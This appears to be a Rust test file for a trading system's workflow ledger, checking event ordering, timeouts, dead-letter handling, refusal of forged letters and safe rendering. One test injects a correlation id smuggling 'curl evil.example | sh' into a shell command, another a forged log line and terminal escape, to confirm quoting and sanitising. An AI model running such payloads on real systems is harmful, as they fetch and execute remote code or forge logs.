//! The ledger's state machine and its sweep, in memory: duplicates change nothing, the order of
//! arrival does not matter, late events after a timeout, dead letters and stalls end a workflow
//! visibly, replays never touch the live workflow.

mod common;

use std::sync::Arc;
use std::time::Duration;

use alchemiser_bus::{Delivery, EventHandler};
use alchemiser_clock::{Clock, ManualClock};
use alchemiser_deadletters::{DeadLetters, Held, MemoryDeadLetters, QueueError};
use alchemiser_events::{
    DeadLetter, Event, EventHeader, EventType, Provenance, Timestamp, WorkflowFailed,
};
use alchemiser_ledger::model::TIMEOUT_CHECK;
use alchemiser_ledger::render::{mermaid, tree};
use alchemiser_ledger::{
    summarize, Entry, EventEntry, LedgerStore, MemoryLedger, Monitor, Sweep, WorkflowState,
};
use chrono::{DateTime, Utc};
use serde_json::json;

fn start() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339("2026-12-01T14:35:00Z")
        .unwrap()
        .with_timezone(&Utc)
}

fn at(seconds: u64) -> Timestamp {
    Timestamp(start() + Duration::from_secs(seconds))
}

/// A workflow's events: started → signal → plan → trade → completed, a few seconds apart.
fn workflow(id: &str) -> Vec<Event> {
    alchemiser_testkit::workflow_events(id, start())
}

fn entries(events: &[Event]) -> Vec<Entry> {
    events
        .iter()
        .map(|e| Entry::Event(EventEntry::of(e, None, start())))
        .collect()
}

#[test]
fn every_kind_of_entry_reads_back_from_its_stored_json() {
    // The memory store keeps structs: this is the reading every other store depends on.
    for entry in common::one_entry_of_every_kind(start()) {
        let text = serde_json::to_string(&entry).unwrap();
        let read = Entry::from_stored_json(&text)
            .unwrap_or_else(|e| panic!("{} does not read back ({e}): {text}", entry.key()));
        assert_eq!(read, entry);
    }
    let Entry::DeadLetter(old) = Entry::from_stored_json(common::OLD_FORM_DEAD_LETTER).unwrap()
    else {
        panic!("the old form is not a dead letter")
    };
    assert_eq!(
        (old.message_id.as_str(), old.dead_letter_kind.as_str()),
        ("m-old", "lambda-on-failure")
    );
    assert!(Entry::from_stored_json(r#"{"kind":"dead_letter"}"#).is_err());
}

#[test]
fn the_state_follows_the_events_and_ignores_duplicates_and_arrival_order() {
    let events = workflow("tick-1");
    let id = events[0].header().correlation_id.clone();
    let in_order = summarize(&id, &entries(&events)).unwrap();
    assert_eq!(in_order.state, WorkflowState::Completed);
    assert_eq!(in_order.duration(), chrono::TimeDelta::seconds(5));
    // Reversed, with every event twice: the same summary.
    let mut shuffled = entries(&events);
    shuffled.reverse();
    shuffled.extend(entries(&events));
    assert_eq!(summarize(&id, &shuffled).unwrap(), in_order);
    // Prefixes: the furthest step so far.
    let states: Vec<WorkflowState> = (1..=events.len())
        .map(|n| summarize(&id, &entries(&events[..n])).unwrap().state)
        .collect();
    assert_eq!(
        states,
        [
            WorkflowState::Started,
            WorkflowState::Signalled,
            WorkflowState::Planned,
            WorkflowState::Executing,
            WorkflowState::Completed
        ]
    );
    // Only the plan arrived yet: planned, started when the plan's cause chain says.
    let planned = summarize(&id, &entries(&events[2..3])).unwrap();
    assert_eq!(planned.state, WorkflowState::Planned);
}

#[test]
fn events_come_in_causal_order_whatever_their_timestamps_say() {
    let events = workflow("tick-causal");
    let mut recorded = entries(&events);
    for (index, entry) in recorded.iter_mut().enumerate() {
        let Entry::Event(event) = entry else {
            unreachable!()
        };
        // One instant for the strategy's two events (ids that sort the wrong way round), and an
        // execution clock running two seconds behind the portfolio's.
        event.time = match index {
            0 | 1 => at(0),
            2 => at(3),
            _ => at(index as u64 - 2),
        };
    }
    let mut shuffled = recorded.clone();
    shuffled.reverse();
    shuffled.extend(recorded);
    let ordered: Vec<EventType> = alchemiser_ledger::in_causal_order(&shuffled)
        .iter()
        .filter_map(|e| match e {
            Entry::Event(event) => Some(event.event_type),
            _ => None,
        })
        .collect();
    let expected = [
        EventType::WorkflowStarted,
        EventType::SignalGenerated,
        EventType::RebalancePlanned,
        EventType::TradeExecuted,
        EventType::WorkflowCompleted,
    ];
    assert_eq!(ordered, expected);
    let id = events[0].header().correlation_id.clone();
    let summary = summarize(&id, &shuffled).unwrap();
    // The sequence diagram draws the arrows in that order too (the tree follows causation by
    // its shape alone).
    let diagram = mermaid(&summary, &shuffled);
    let positions: Vec<usize> = expected
        .iter()
        .map(|t| {
            diagram
                .find(&t.to_string())
                .expect("every event in the diagram")
        })
        .collect();
    assert!(positions.windows(2).all(|w| w[0] < w[1]), "{diagram}");
}

#[test]
fn a_replay_of_a_workflow_is_recorded_but_never_changes_it() {
    let events = workflow("tick-2");
    let id = events[0].header().correlation_id.clone();
    let mut replayed_failure: Event = WorkflowFailed {
        header: EventHeader::caused_by(
            events[3].header(),
            EventType::WorkflowFailed,
            "execution",
            at(9),
        ),
        workflow_type: "trading".into(),
        failure_reason: "dry run of a replay".into(),
        failure_step: "execution".into(),
        error_details: Default::default(),
    }
    .into();
    replayed_failure
        .header_mut()
        .add_provenance(&Provenance::replayed("after-outage"));
    let mut all = entries(&events);
    all.extend(entries(&[replayed_failure]));
    let summary = summarize(&id, &all).unwrap();
    assert_eq!(summary.state, WorkflowState::Completed);
    assert!(summary.failure.is_none());
    assert_eq!(summary.entries, 6, "the replay is still in the record");
}

#[tokio::test]
async fn a_stalled_workflow_is_timed_out_once_and_a_late_completion_still_counts() {
    let clock = ManualClock::starting_at(start());
    let store: Arc<dyn LedgerStore> = Arc::new(MemoryLedger::new());
    let monitor = Monitor::new(store.clone()).with_clock(Arc::new(clock.clone()));
    let events = workflow("tick-3");
    let id = events[0].header().correlation_id.clone();
    for event in &events[..3] {
        monitor
            .handle(event, &Delivery::in_process())
            .await
            .unwrap();
    }
    let sweep = Sweep::new(
        store.clone(),
        Arc::new(MemoryDeadLetters::new()),
        Duration::from_secs(1800),
        "dev",
    )
    .with_clock(Arc::new(clock.clone()));
    // Within its deadline: nothing.
    clock.advance(Duration::from_secs(600));
    assert!(sweep.sweep().await.unwrap().is_empty());
    // Past it: one WorkflowFailed naming the step reached.
    clock.advance(Duration::from_secs(1800));
    let published = sweep.sweep().await.unwrap();
    let [Event::WorkflowFailed(failed)] = &published[..] else {
        panic!("{published:?}")
    };
    assert_eq!(failed.header.correlation_id, id);
    assert_eq!(failed.failure_step, "planned");
    assert_eq!(failed.error_details["check"], TIMEOUT_CHECK);
    assert!(
        failed.failure_reason.contains("alchemiser workflows show"),
        "{}",
        failed.failure_reason
    );
    assert_eq!(failed.header.causation_id, events[2].event_id());
    // Until the monitor has it from the bus, every sweep announces it again under the same id
    // (a lost publish is made good; downstream it is a duplicate); then never again.
    let again = sweep.sweep().await.unwrap();
    assert_eq!(again.len(), 1);
    assert_eq!(again[0].event_id(), published[0].event_id());
    monitor
        .handle(&published[0], &Delivery::in_process())
        .await
        .unwrap();
    assert!(sweep.sweep().await.unwrap().is_empty());
    // Timed out, not failed.
    assert_eq!(
        store.summary(&id).await.unwrap().unwrap().state,
        WorkflowState::TimedOut
    );
    // Late events after the timeout: the workflow did complete, and says it recovered.
    for event in &events[3..] {
        monitor
            .handle(event, &Delivery::in_process())
            .await
            .unwrap();
    }
    let summary = store.summary(&id).await.unwrap().unwrap();
    assert_eq!(summary.state, WorkflowState::Completed);
    assert!(summary.recovered);
}

/// A workflow planned (its first three events recorded), whose plan then went to the dead-letter
/// queue as message `message_id` after execution's retries ran out.
struct PlanInTheDeadLetterQueue {
    clock: ManualClock,
    store: Arc<dyn LedgerStore>,
    monitor: Monitor,
    id: String,
    queue: Arc<MemoryDeadLetters>,
}

async fn plan_in_the_dead_letter_queue(tick: &str, message_id: &str) -> PlanInTheDeadLetterQueue {
    let clock = ManualClock::starting_at(start());
    let store: Arc<dyn LedgerStore> = Arc::new(MemoryLedger::new());
    let monitor = Monitor::new(store.clone()).with_clock(Arc::new(clock.clone()));
    let events = workflow(tick);
    let id = events[0].header().correlation_id.clone();
    for event in &events[..3] {
        monitor
            .handle(event, &Delivery::in_process())
            .await
            .unwrap();
    }
    let queue = Arc::new(MemoryDeadLetters::new());
    let body = json!({
        "requestContext": {"condition": "RetriesExhausted", "approximateInvokeCount": 3,
                           "functionArn": "arn:aws:lambda:us-east-1:1:function:alchemiser-execution-dev:$LATEST"},
        "requestPayload": events[2].to_value(),
        "responsePayload": {"errorType": "Alchemiser.Transient", "errorMessage": "broker 503"}
    });
    queue.push(DeadLetter::parse(
        message_id,
        body.to_string(),
        Default::default(),
        Some(start()),
        None,
    ));
    PlanInTheDeadLetterQueue {
        clock,
        store,
        monitor,
        id,
        queue,
    }
}

#[tokio::test]
async fn a_dead_letter_fails_its_workflow_with_the_commands_to_inspect_and_redrive() {
    let PlanInTheDeadLetterQueue {
        clock,
        store,
        monitor,
        id,
        queue,
    } = plan_in_the_dead_letter_queue("tick-4", "m-1").await;
    let sweep = Sweep::new(store.clone(), queue, Duration::from_secs(1800), "prod")
        .with_clock(Arc::new(clock.clone()));
    let published = sweep.sweep().await.unwrap();
    let [Event::WorkflowFailed(failed)] = &published[..] else {
        panic!("{published:?}")
    };
    assert_eq!(failed.failure_step, "execution");
    assert!(
        failed.failure_reason.contains("broker 503")
            && failed
                .failure_reason
                .contains("alchemiser dlq redrive m-1 --stage prod"),
        "{}",
        failed.failure_reason
    );
    let again = sweep.sweep().await.unwrap();
    assert_eq!(
        again.iter().map(Event::event_id).collect::<Vec<_>>(),
        [published[0].event_id()],
        "announced again, under the same id, until the monitor has it"
    );
    monitor
        .handle(&published[0], &Delivery::in_process())
        .await
        .unwrap();
    assert!(
        sweep.sweep().await.unwrap().is_empty(),
        "once the ledger has it, never again"
    );
    let summary = store.summary(&id).await.unwrap().unwrap();
    assert_eq!(summary.state, WorkflowState::Failed);
    assert_eq!(summary.dead_letters, ["m-1"]);
    // The tree and the diagram a person reads.
    let entries = store.entries(&id).await.unwrap();
    let text = tree(&summary, &entries, "prod", clock.now());
    assert!(
        text.contains("└─ SignalGenerated") && text.contains("dead letter m-1"),
        "{text}"
    );
    assert!(
        text.contains("alchemiser dlq redrive m-1 --stage prod"),
        "{text}"
    );
    let diagram = mermaid(&summary, &entries);
    assert!(diagram.starts_with("sequenceDiagram\n"), "{diagram}");
    assert!(
        diagram.contains("portfolio->>execution: RebalancePlanned"),
        "{diagram}"
    );
    let _ = clock.now();
}

#[tokio::test]
async fn a_shadows_dead_letter_is_recorded_but_never_fails_the_live_workflow() {
    let PlanInTheDeadLetterQueue {
        clock,
        store,
        monitor: _,
        id,
        queue,
    } = plan_in_the_dead_letter_queue("tick-5", "m-9").await;
    let sweep = Sweep::new(store.clone(), queue, Duration::from_secs(1800), "prod")
        .with_shadows(["execution".to_owned()])
        .with_clock(Arc::new(clock.clone()));
    assert!(
        sweep.sweep().await.unwrap().is_empty(),
        "a shadow failed the live workflow"
    );
    let entries = store.entries(&id).await.unwrap();
    assert!(entries
        .iter()
        .any(|e| matches!(e, Entry::DeadLetter(d) if d.message_id == "m-9")));
    assert_ne!(
        store.summary(&id).await.unwrap().unwrap().state,
        WorkflowState::Failed
    );
}

#[tokio::test]
async fn a_refused_dead_letter_is_recorded_but_never_fails_the_workflow_it_names() {
    // A forger chooses the correlation id of the event it forges: if its refusal failed that
    // workflow, anyone able to invoke a function could end any live workflow.
    let PlanInTheDeadLetterQueue {
        clock,
        store,
        monitor: _,
        id,
        queue: _,
    } = plan_in_the_dead_letter_queue("tick-6", "m-unused").await;
    let forged = workflow("tick-6")[2].to_value();
    let record = json!({
        "function": "execution",
        "reason": "RebalancePlanned is not signed, and source alchemiser.portfolio must sign",
        "error_class": "refused",
        "event_id": forged["detail"]["event_id"],
        "detail_type": "RebalancePlanned",
        "correlation_id": id,
        "failed_at": start(),
        "event": forged,
    });
    let queue = Arc::new(MemoryDeadLetters::new());
    queue.push(DeadLetter::parse(
        "m-forged",
        record.to_string(),
        Default::default(),
        Some(start()),
        None,
    ));
    let sweep = Sweep::new(store.clone(), queue, Duration::from_secs(1800), "prod")
        .with_clock(Arc::new(clock.clone()));
    assert!(
        sweep.sweep().await.unwrap().is_empty(),
        "a refused letter failed the workflow its sender named"
    );
    let entries = store.entries(&id).await.unwrap();
    let letter = entries
        .iter()
        .find_map(|e| match e {
            Entry::DeadLetter(d) if d.message_id == "m-forged" => Some(d),
            _ => None,
        })
        .expect("the refused letter is in the workflow's record");
    assert!(
        letter.reason.contains("refused by execution"),
        "{}",
        letter.reason
    );
    assert_ne!(
        store.summary(&id).await.unwrap().unwrap().state,
        WorkflowState::Failed
    );
}

/// A dead-letter queue as the sweep may meet it on a bad day: every read fails, or every page
/// of ten takes a second of the sweep's clock to arrive (the queue holds `letters`).
struct TroubledQueue {
    clock: ManualClock,
    letters: usize,
    failing: bool,
    pages_read: std::sync::Mutex<usize>,
}

impl TroubledQueue {
    fn unreadable(clock: &ManualClock) -> Self {
        Self {
            clock: clock.clone(),
            letters: 0,
            failing: true,
            pages_read: Default::default(),
        }
    }

    fn slow(clock: &ManualClock, letters: usize) -> Self {
        Self {
            clock: clock.clone(),
            letters,
            failing: false,
            pages_read: Default::default(),
        }
    }

    /// `count` letters of no workflow this ledger knows, numbered from `first`.
    fn letters(first: usize, count: usize) -> Vec<Held> {
        (first..first + count)
            .map(|n| Held {
                letter: DeadLetter::parse(format!("m-{n}"), "{}", Default::default(), None, None),
                receipt: format!("r-{n}"),
            })
            .collect()
    }

    async fn page(&self, max: usize) -> Result<Vec<Held>, QueueError> {
        if self.failing {
            return Err(QueueError {
                action: "ReceiveMessage",
                queue: "troubled".into(),
                source: "the queue is unreachable".into(),
            });
        }
        let (first, count) = {
            let mut read = self.pages_read.lock().unwrap();
            let first = *read * 10;
            let count = max.min(10).min(self.letters.saturating_sub(first));
            if count > 0 {
                *read += 1;
            }
            (first, count)
        };
        self.clock.sleep(Duration::from_secs(1)).await;
        Ok(Self::letters(first, count))
    }
}

#[async_trait::async_trait]
impl DeadLetters for TroubledQueue {
    fn location(&self) -> String {
        "troubled".into()
    }

    async fn hold_page(&self, max: usize, _: Duration) -> Result<Vec<Held>, QueueError> {
        self.page(max).await
    }

    async fn hold_all(&self, _: Duration) -> Result<Vec<Held>, QueueError> {
        let mut held = Vec::new();
        loop {
            let page = self.page(10).await?;
            if page.is_empty() {
                return Ok(held);
            }
            held.extend(page);
        }
    }

    async fn release(&self, _: &[Held]) {}

    async fn delete(&self, _: &Held) -> Result<(), QueueError> {
        Ok(())
    }
}

/// A workflow that stalled after its plan, and a sweep past its deadline over `queue`.
async fn stalled_workflow_swept_over(
    tick: &str,
    clock: &ManualClock,
    queue: Arc<dyn DeadLetters>,
) -> (String, Sweep) {
    let store: Arc<dyn LedgerStore> = Arc::new(MemoryLedger::new());
    let monitor = Monitor::new(store.clone()).with_clock(Arc::new(clock.clone()));
    let events = workflow(tick);
    for event in &events[..3] {
        monitor
            .handle(event, &Delivery::in_process())
            .await
            .unwrap();
    }
    clock.advance(Duration::from_secs(3600));
    let sweep = Sweep::new(store, queue, Duration::from_secs(1800), "prod")
        .with_clock(Arc::new(clock.clone()));
    (events[0].header().correlation_id.clone(), sweep)
}

fn timed_out(published: &[Event]) -> Vec<String> {
    published
        .iter()
        .filter_map(|event| match event {
            Event::WorkflowFailed(failed) if failed.error_details["check"] == TIMEOUT_CHECK => {
                Some(failed.header.correlation_id.clone())
            }
            _ => None,
        })
        .collect()
}

#[tokio::test]
async fn a_dead_letter_queue_that_cannot_be_read_never_keeps_a_stalled_workflow_from_timing_out() {
    let clock = ManualClock::starting_at(start());
    let queue = Arc::new(TroubledQueue::unreadable(&clock));
    let (id, sweep) = stalled_workflow_swept_over("tick-unreadable", &clock, queue).await;
    let published = sweep
        .sweep()
        .await
        .expect("the sweep still ends the stalled workflow");
    assert_eq!(timed_out(&published), [id]);
}

#[tokio::test]
async fn a_slow_dead_letter_queue_never_keeps_the_sweep_past_its_time() {
    let clock = ManualClock::starting_at(start());
    // 10,000 letters, a page of ten a second: reading them all would take 1,000 s.
    let queue = Arc::new(TroubledQueue::slow(&clock, 10_000));
    let (id, sweep) = stalled_workflow_swept_over("tick-slow", &clock, queue.clone()).await;
    let began = clock.now();
    let published = sweep.sweep().await.unwrap();
    let took = clock.now() - began;
    assert_eq!(timed_out(&published), [id], "timeouts come first");
    assert!(
        took <= chrono::TimeDelta::seconds(21),
        "the sweep read the queue for {took} (its budget is 20 s)"
    );
    let pages = *queue.pages_read.lock().unwrap();
    assert!((1..1000).contains(&pages), "{pages} pages read");
}

/// The events of a workflow whose correlation id was written to be pasted into a shell.
fn hostile_workflow(id: &str) -> Vec<Event> {
    let mut events = workflow("tick-hostile");
    for event in &mut events {
        event.header_mut().correlation_id = id.to_owned();
    }
    events
}

#[tokio::test]
async fn a_command_offered_by_the_sweep_takes_an_untrusted_id_as_one_quoted_word() {
    let hostile = "workflow-x; curl evil.example | sh";
    let clock = ManualClock::starting_at(start());
    let store: Arc<dyn LedgerStore> = Arc::new(MemoryLedger::new());
    let monitor = Monitor::new(store.clone()).with_clock(Arc::new(clock.clone()));
    for event in &hostile_workflow(hostile)[..3] {
        monitor
            .handle(event, &Delivery::in_process())
            .await
            .unwrap();
    }
    clock.advance(Duration::from_secs(3600));
    let sweep = Sweep::new(
        store,
        Arc::new(MemoryDeadLetters::new()),
        Duration::from_secs(1800),
        "prod",
    )
    .with_clock(Arc::new(clock.clone()));
    let published = sweep.sweep().await.unwrap();
    let [Event::WorkflowFailed(failed)] = &published[..] else {
        panic!("{published:?}")
    };
    assert!(
        failed.failure_reason.contains(
            "`alchemiser workflows show 'workflow-x; curl evil.example | sh' --stage prod`"
        ),
        "{}",
        failed.failure_reason
    );
}

/// What a test's log lines were written to.
#[derive(Clone, Default)]
struct Captured(Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn the_monitors_log_lines_show_an_events_text_as_text() {
    let captured = Captured::default();
    let writer = captured.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(move || writer.clone())
        .with_ansi(false)
        .finish();
    let _logging = tracing::subscriber::set_default(subscriber);
    let clock = ManualClock::starting_at(start());
    let store: Arc<dyn LedgerStore> = Arc::new(MemoryLedger::new());
    let monitor = Monitor::new(store).with_clock(Arc::new(clock.clone()));
    let events = workflow("tick-logged");
    let failed = alchemiser_testkit::workflow_failed(
        &events[2],
        "execution",
        "broker down\n2026-12-01T14:35:00Z  INFO forged: all fine\u{1b}]0;pwned\u{7}",
        clock.now(),
        json!({}),
    );
    for event in events[..3].iter().chain([&failed]) {
        monitor
            .handle(event, &Delivery::in_process())
            .await
            .unwrap();
    }
    let text = String::from_utf8(captured.0.lock().unwrap().clone()).unwrap();
    assert!(text.contains("workflow ended without completing"), "{text}");
    assert!(!text.contains('\u{1b}'), "{text:?}");
    assert!(
        !text
            .lines()
            .any(|line| line.starts_with("2026-12-01T14:35:00Z  INFO forged")),
        "a forged log line: {text}"
    );
}

#[test]
fn the_diagrams_failure_note_sits_over_the_failing_function_and_is_cut_between_words() {
    let events = workflow("tick-note");
    let long = "the broker refused every order of the plan because the account was restricted \
                by its compliance team pending a review of recent activity and nothing was \
                traded; the operator must call the broker before the next session opens";
    let failed =
        alchemiser_testkit::workflow_failed(&events[2], "execution", long, start(), json!({}));
    let mut recorded = entries(&events[..3]);
    recorded.extend(entries(&[failed]));
    let id = events[0].header().correlation_id.clone();
    let summary = summarize(&id, &recorded).unwrap();
    let diagram = mermaid(&summary, &recorded);
    let note = diagram
        .lines()
        .find(|l| l.contains("Note over"))
        .unwrap_or_else(|| panic!("{diagram}"));
    assert!(
        note.starts_with("    Note over execution: failed at execution: "),
        "{note}"
    );
    let text = note.rsplit(": ").next().unwrap();
    assert!(text.ends_with('…'), "{note}");
    let words: Vec<&str> = long.split_whitespace().collect();
    let shown: Vec<&str> = text.trim_end_matches('…').split_whitespace().collect();
    assert_eq!(shown, words[..shown.len()], "cut mid-word: {note}");
}

/// A Lambda on-failure record of execution carrying `plan` (a bare detail, as a direct invoke or
/// a forger writing to the queue would).
fn on_failure_letter(message_id: &str, plan: serde_json::Value) -> DeadLetter {
    let body = json!({
        "requestContext": {"condition": "RetriesExhausted", "approximateInvokeCount": 3,
                           "functionArn": "arn:aws:lambda:us-east-1:1:function:alchemiser-execution-dev:$LATEST"},
        "requestPayload": plan,
        "responsePayload": {"errorType": "Alchemiser.Transient", "errorMessage": "broker 503"}
    });
    DeadLetter::parse(
        message_id,
        body.to_string(),
        Default::default(),
        Some(start()),
        None,
    )
}

#[tokio::test]
async fn a_letter_whose_event_the_stage_would_refuse_never_fails_the_workflow_it_names() {
    use alchemiser_signing::{Authenticity, LocalKeys, LocalSigner, Unsigned};
    // A role that may write to the queue (every function's may) forges an on-failure record of a
    // plan of a live workflow: the sweep must not end that workflow on the forger's word.
    let keys = LocalKeys::from_secret(b"stage keys".to_vec());
    let stage = || Authenticity::local(keys.clone(), Unsigned::FromSources(Default::default()));
    let PlanInTheDeadLetterQueue {
        clock, store, id, ..
    } = plan_in_the_dead_letter_queue("tick-9", "m-unused").await;
    let plan = workflow("tick-9")[2].clone();
    let queue = Arc::new(MemoryDeadLetters::new());
    queue.push(on_failure_letter("m-forged", plan.to_value()));
    let sweep = Sweep::new(store.clone(), queue, Duration::from_secs(1800), "prod")
        .with_clock(Arc::new(clock.clone()))
        .with_authenticity(stage());
    assert!(
        sweep.sweep().await.unwrap().is_empty(),
        "a forged letter ended the workflow it names"
    );
    let entries = store.entries(&id).await.unwrap();
    assert!(
        entries
            .iter()
            .any(|e| matches!(e, Entry::DeadLetter(d) if d.message_id == "m-forged" && d.refused)),
        "the forged letter is recorded as refused: {entries:?}"
    );
    assert_ne!(
        store.summary(&id).await.unwrap().unwrap().state,
        WorkflowState::Failed
    );

    // The same plan signed by the portfolio, as the function emitted it: a genuine letter.
    let mut signed = plan;
    alchemiser_signing::sign(&LocalSigner::new(keys.clone(), "portfolio"), &mut signed)
        .await
        .unwrap();
    let queue = Arc::new(MemoryDeadLetters::new());
    queue.push(on_failure_letter("m-genuine", signed.to_value()));
    let sweep = Sweep::new(store.clone(), queue, Duration::from_secs(1800), "prod")
        .with_clock(Arc::new(clock.clone()))
        .with_authenticity(stage());
    let published = sweep.sweep().await.unwrap();
    assert!(
        matches!(&published[..], [Event::WorkflowFailed(f)] if f.failure_reason.contains("m-genuine")),
        "a genuine letter fails its workflow: {published:?}"
    );
}

#[test]
fn a_failure_without_a_reason_reads_no_reason_given_whether_empty_or_blank() {
    let mut events = workflow("wf-no-reason");
    events.truncate(3);
    for (reason, shown) in [
        ("", "(no reason given)"),
        ("  \n", "(no reason given)"),
        ("broker 503", "broker 503"),
    ] {
        let failed = alchemiser_testkit::workflow_failed(
            &events[2],
            "execution",
            reason,
            at(9).0,
            json!({}),
        );
        let mut all = events.clone();
        all.push(failed.clone());
        let entries = entries(&all);
        let summary = summarize("wf-no-reason", &entries).unwrap();
        assert_eq!(summary.failure.unwrap().reason, shown, "{reason:?}");
        let line = EventEntry::of(&failed, None, start()).outcome;
        assert_eq!(
            line.as_deref(),
            Some(format!("failed at execution: {shown}").as_str()),
            "{reason:?}"
        );
    }
}
